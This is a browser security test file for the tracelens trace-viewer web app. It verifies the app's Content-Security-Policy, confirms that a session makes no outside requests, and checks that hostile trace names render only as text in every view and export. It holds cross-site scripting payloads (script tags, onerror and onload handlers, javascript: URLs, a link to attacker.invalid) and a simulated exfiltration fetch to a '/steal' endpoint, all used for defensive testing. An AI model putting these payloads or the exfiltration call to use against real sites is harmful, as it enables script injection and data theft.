// The promises SECURITY.md makes about the page, each checked as a person
// uses the site:
// - the page carries a Content-Security-Policy that allows its own origin
//   only, and an inline script only by the hash of the one Trunk writes;
// - a whole session (files and a baseline loaded, every view opened, the
//   report exported in every format) requests nothing but the site's own
//   files and violates no policy; a request the page tries to another
//   server is blocked and reported (so the check itself can fail);
// - strings from traces (service, span and attribute names and values,
//   exception messages, resource attributes, the file's name) are text in
//   every view and every export, however hostile: markup, `javascript:`
//   URLs, SVG, `</style>`, Markdown and backticks, right-to-left overrides,
//   and strings too long to fit a line.
//
// The traces are the generator's shop (via the CLI) with names replaced by
// hostile ones. Set TRACELENS_BIN to a built `tracelens` to skip `cargo run`.

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { launchChromium, renamedJson, startSite, tracelens } from "./harness.mjs";
import { siteFiles } from "../../scripts/post-build/offline.mjs";

const ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const DIST = join(ROOT, "dist");

// Each payload marks what it would create with `data-pwned`, and what it
// would run sets `window.__pwned`: neither may ever exist.
const LONG = "unbroken".repeat(400);
const HOSTILE = {
  // services
  cart: `<script>window.__pwned="cart"</script>`,
  payment: `</style><img src=x data-pwned onerror="window.__pwned='payment'">`,
  catalog: `<svg data-pwned onload="window.__pwned='catalog'"><circle r="9"/></svg>`,
  orders: `\u202Esredro\u202C orders`,
  // operations and routes
  "/checkout": `javascript:window.__pwned='checkout'`,
  "/cart/items": "/cart/items **bold** [link](javascript:alert(1)) ![x](http://attacker.invalid/x.png) | pipe |",
  "/search": "/search ``` `tick` ${'`'}\n# heading",
  "/featured": `/featured/${LONG}`,
  // attribute keys and values, exception text
  "db.statement": `<b data-pwned>db.statement</b>`,
  postgresql: `postgresql"'><img data-pwned src=x onerror="window.__pwned='db'">`,
  CardDeclined: `CardDeclined <img data-pwned src=x onerror="window.__pwned='error'"> \u202Edenilced`,
};
const FILE_NAME = `<img src=x data-pwned onerror="window.__pwned='file'">.json`;

let site;
let traces;
before(async () => {
  const dir = mkdtempSync(join(tmpdir(), "tracelens-security-"));
  const [baseline, current] = [join(dir, "baseline.json"), join(dir, "current.json")];
  tracelens("generate", "--compact", "--patterns", "none", "--traces", "200", "--seed", "1", "--out", baseline);
  tracelens("generate", "--compact", "--patterns", "all", "--traces", "200", "--seed", "2", "--out", current);
  traces = { baseline: Buffer.from(renamedJson(baseline, HOSTILE)), current: Buffer.from(renamedJson(current, HOSTILE)) };
  site = await startSite();
});
after(async () => {
  await site?.close();
});

/** Whatever the hostile strings could have made or run in the page so far. */
function damage(page) {
  return page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    elements: document.querySelectorAll("[data-pwned], circle[r='9']").length,
    handlers: [...document.querySelectorAll("*")].flatMap((e) =>
      [...e.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${e.localName}[${a.name}]`),
    ),
    scriptLinks: [...document.querySelectorAll("[href], [src], [action]")]
      .map((e) => e.getAttribute("href") ?? e.getAttribute("src") ?? e.getAttribute("action"))
      .filter((url) => /^\s*javascript:/i.test(url)),
  }));
}

/** Text that a right-to-left override could turn around: each must sit in an element isolated from its neighbours. */
function unisolatedOverrides(page) {
  return page.evaluate(() => {
    const loose = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!/[\u202A-\u202E\u2066-\u2069]/.test(node.data)) continue;
      const element = node.parentElement;
      const style = getComputedStyle(element);
      const isolated =
        /isolate|plaintext/.test(style.unicodeBidi) || !/^inline/.test(style.display) || element.localName === "bdi";
      if (!isolated) {
        const owner = element.closest("[data-testid]")?.dataset.testid ?? "page";
        loose.push(`${owner} > ${element.localName}.${element.className}: ${JSON.stringify(node.data.slice(0, 80))}`);
      }
    }
    return loose;
  });
}

/** Whether anything is wider than the window (a long string pushing the page sideways). */
function overflow(page) {
  return page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
}

test("the page's policy allows its own origin only, and inline script only by the hash of Trunk's loader", async () => {
  const html = readFileSync(join(DIST, "index.html"), "utf8");
  const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(policy, "a policy meta tag");
  const directives = Object.fromEntries(policy.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  const [self, wasm, ...hashes] = directives["script-src"];
  assert.deepEqual([self, wasm], ["'self'", "'wasm-unsafe-eval'"]);
  // Exactly these directives: one more (a `frame-src *`) or one less (`base-uri`) fails.
  assert.deepEqual(directives, {
    "default-src": ["'none'"],
    "script-src": ["'self'", "'wasm-unsafe-eval'", ...hashes],
    "connect-src": ["'self'"],
    "worker-src": ["'self'"],
    "style-src": ["'self'"],
    "img-src": ["'self'"],
    "manifest-src": ["'self'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],
  });
  const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  assert.ok(inline.length >= 1, "Trunk's loader is inline");
  const { createHash } = await import("node:crypto");
  assert.deepEqual(
    hashes,
    inline.map((text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`),
    "exactly the inline scripts' hashes",
  );
  assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<script"), "the policy comes before any script");
});

test("a request to another server is blocked and reported, so the session check below can fail", async () => {
  const { page, context, errors } = await site.open();
  try {
    const outcome = await page.evaluate(() =>
      fetch("http://127.0.0.1:9/steal", { method: "POST", body: "traces" }).then(
        () => "sent",
        (e) => e.name,
      ),
    );
    assert.equal(outcome, "TypeError", "the fetch failed");
    assert.deepEqual(await page.evaluate(() => window.__violations), ["connect-src blocked http://127.0.0.1:9/steal"]);
    assert.ok(errors.some((e) => /violates the following Content Security Policy directive/.test(e)), "and Chromium logs it");
  } finally {
    await context.close();
  }
});

test("a whole session with hostile names: only the site's own files are requested, nothing breaks the policy, every string is text", async () => {
  const allowed = new Set([`${site.origin}/`, ...siteFiles(DIST).map((file) => `${site.origin}/${file}`)]);
  const session = await site.open({ viewport: { width: 1280, height: 900 } });
  const { page, context, requests, errors } = session;
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const views = [];
  /** Checks the page as it is now, under `view`'s name. */
  const check = async (view) => {
    views.push(view);
    assert.deepEqual(await damage(page), { pwned: null, elements: 0, handlers: [], scriptLinks: [] }, view);
    assert.deepEqual(await unisolatedOverrides(page), [], `${view}: right-to-left overrides isolated`);
    assert.ok((await overflow(page)) <= 0, `${view}: nothing wider than the window`);
  };
  try {
    await page.getByTestId("file-input").setInputFiles({ name: FILE_NAME, mimeType: "application/json", buffer: traces.current });
    await page.getByTestId("overview").waitFor();
    await page.getByTestId("baseline-input").setInputFiles({ name: "baseline.json", mimeType: "application/json", buffer: traces.baseline });
    await page.getByTestId("comparison").waitFor();
    await page.getByTestId("finding").first().waitFor();
    const reports = await page.getByTestId("file-report").allTextContents();
    assert.ok(reports.some((r) => r.includes(FILE_NAME)), `the file's name, as text: ${reports.join(" / ")}`);
    const text = await page.locator("body").innerText();
    for (const shown of [HOSTILE.cart, HOSTILE.payment]) assert.ok(text.includes(shown), `shown as text: ${shown}`);
    await check("analysis");

    // The trace list's filters and a trace's waterfall, details and search.
    await page.getByTestId("filter-text").fill("CardDeclined <img");
    await page.getByTestId("filter-text").press("Enter");
    await page.waitForFunction(() => /of 200 traces match/.test(document.querySelector('[data-testid="trace-list-count"]').textContent));
    assert.match(page.url(), /q=CardDeclined(\+|%20)%3Cimg/, "the filter is in the address, encoded");
    await check("trace list filtered by markup");
    await page.getByTestId("trace-link").first().click();
    await page.getByTestId("span-row").first().waitFor();
    await check("waterfall");
    await page.getByTestId("span-row").first().click();
    await page.keyboard.press("Enter");
    await page.getByTestId("span-details").waitFor();
    await check("span details");
    await page.getByTestId("trace-search").fill(HOSTILE.cart.slice(0, 12));
    await check("trace search");
    await page.getByTestId("compare-typical").click();
    await page.getByTestId("trace-compare").waitFor();
    await check("two traces compared");

    // The service map, with a box's panel open.
    await page.goto(`${site.origin}/#/services`);
    await page.getByTestId("service-map").waitFor();
    await page.getByTestId("service-node").first().click();
    await check("service map");

    // An endpoint named by hostile text.
    await page.goto(`${site.origin}/#/`);
    await page.getByTestId("endpoint-link").first().click();
    await page.getByTestId("endpoint-view").waitFor();
    await check("endpoint");

    // The report, and each export.
    await page.goto(`${site.origin}/#/report`);
    await page.getByTestId("report-finding").first().waitFor();
    await check("report");
    const exports = {};
    for (const format of ["html", "markdown", "json"]) {
      const [file] = await Promise.all([page.waitForEvent("download"), page.getByTestId(`report-download-${format}`).click()]);
      exports[format] = readFileSync(await file.path(), "utf8");
    }
    // Names are code spans in the Markdown, where markup is shown as written;
    // outside them there must be none, and no link the traces made.
    const prose = exports.markdown.replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, "");
    assert.ok(exports.markdown.includes("`<script>window.__pwned"), "the names, as code spans");
    assert.ok(!/<(script|img|svg|style|\/style|b)\b/i.test(prose), "no raw markup in the Markdown outside code spans");
    assert.ok(!/\]\(javascript:/i.test(prose), "no javascript: link in the Markdown");
    const json = JSON.stringify(JSON.parse(exports.json));
    assert.ok(json.includes(JSON.stringify(HOSTILE.cart).slice(1, -1)), "the JSON keeps the names as they were");
    await checkExportedHtml(exports.html);

    assert.deepEqual(dialogs, [], "no dialog opened");
    assert.deepEqual(await page.evaluate(() => window.__violations), [], "no policy violation");
    assert.ok(requests.some((url) => url.endsWith(".wasm")), "the request log works: it saw the wasm module");
    const foreign = requests.filter((url) => !allowed.has(url.replace(/[?#].*$/, "")) && !url.startsWith(`blob:${site.origin}/`));
    assert.deepEqual(foreign, [], "requests beyond the site's own files");
    assert.deepEqual(errors, [], "errors in the page");
    assert.ok(views.length >= 8, `every view was checked: ${views.join(", ")}`);
  } finally {
    await context.close();
  }
});

/** The exported report opened from disk: no request, no markup from the traces, its own no-network policy. */
async function checkExportedHtml(html) {
  const file = join(mkdtempSync(join(tmpdir(), "tracelens-export-")), "report.html");
  writeFileSync(file, html);
  const url = pathToFileURL(file).href;
  const browser = await launchChromium();
  try {
    const context = await browser.newContext();
    const requests = [];
    context.on("request", (r) => r.url() !== url && requests.push(r.url()));
    await context.route("**/*", (route) => (route.request().url() === url ? route.continue() : route.abort()));
    const page = await context.newPage();
    await page.goto(url);
    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content);
    assert.match(policy ?? "", /^default-src 'none';/, "its own policy: no network");
    assert.deepEqual(await damage(page), { pwned: null, elements: 0, handlers: [], scriptLinks: [] }, "exported HTML");
    assert.deepEqual(await unisolatedOverrides(page), [], "exported HTML: right-to-left overrides isolated");
    assert.deepEqual(requests, [], "the exported report requests nothing");
  } finally {
    await browser.close();
  }
}

test("served by `tracelens serve`, the policy also comes as a header, which the engine's worker obeys too; the app works under it", async () => {
  const [command, prefix] = process.env.TRACELENS_BIN
    ? [process.env.TRACELENS_BIN, []]
    : ["cargo", ["run", "-q", "-p", "tracelens-cli", "--"]];
  const server = spawn(command, [...prefix, "serve", DIST, "--port", "0"], { cwd: ROOT, stdio: ["ignore", "pipe", "inherit"] });
  try {
    const origin = await new Promise((found, fail) => {
      let printed = "";
      server.stdout.on("data", (chunk) => {
        printed += chunk;
        const url = printed.match(/http:\/\/127\.0\.0\.1:\d+/);
        if (url) found(url[0]);
      });
      server.once("exit", (code) => fail(new Error(`tracelens serve exited with ${code}: ${printed}`)));
    });
    const response = await fetch(`${origin}/tracelens-engine_loader.js`);
    const meta = readFileSync(join(DIST, "index.html"), "utf8").match(/Content-Security-Policy" content="([^"]+)"/)[1];
    assert.equal(
      response.headers.get("content-security-policy"),
      `${meta}; frame-ancestors 'none'`,
      "the page's policy as a header, with what only a header can say: no other site may frame the page",
    );

    const browser = await launchChromium();
    try {
      const context = await browser.newContext();
      const requests = [];
      context.on("request", (r) => requests.push(r.url()));
      const page = await context.newPage();
      const errors = [];
      page.on("pageerror", (e) => errors.push(e.message));
      page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
      await page.goto(`${origin}/`);
      await page.getByTestId("load-example").click();
      await page.getByTestId("overview").waitFor();
      assert.equal(await page.getByTestId("span-count").innerText(), "3,918", "the engine ran under the header policy");
      assert.deepEqual(requests.filter((url) => !url.startsWith(`${origin}/`)), []);
      assert.deepEqual(errors, []);
    } finally {
      await browser.close();
    }
  } finally {
    server.kill();
  }
});
